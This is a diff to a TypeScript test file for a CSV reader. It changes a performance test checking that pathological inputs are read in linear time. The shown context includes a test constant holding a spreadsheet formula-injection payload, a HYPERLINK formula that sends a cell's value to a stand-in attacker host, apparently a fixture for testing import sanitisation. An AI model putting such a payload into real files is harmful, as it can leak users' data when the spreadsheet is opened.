@@ -5,7 +5,7 @@ import { readCsv } from "../../../manifests/shapes/csvReader.ts";
 import { exported, planned } from "../../editor/importing/importWorld.ts";
 import { EVENTS, event } from "../../runtime/entries/events.ts";
 import { page, worldWith } from "../../runtime/kernel/world.ts";
-import { effortOf } from "../../support/effort.ts";
+import { excess } from "../../support/effort.ts";
 
 const FORMULA = '=HYPERLINK("https://evil.example/"&A1)';
 const PAGES = {
@@ -52,5 +52,5 @@ test.each([
   ["line breaks alone", "\n".repeat(300_000)],
   ["spaces before a mark that never comes", `a;b\n${" ".repeat(300_000)}`],
 ])("a file of %s is read in the time of its length", async (_, text) => {
-  expect(await effortOf(() => readCsv(text, 10))).toBeLessThan(40);
+  expect(await excess((share) => readCsv(text.slice(0, text.length * share), 10), 40)).toBeUndefined();
 });
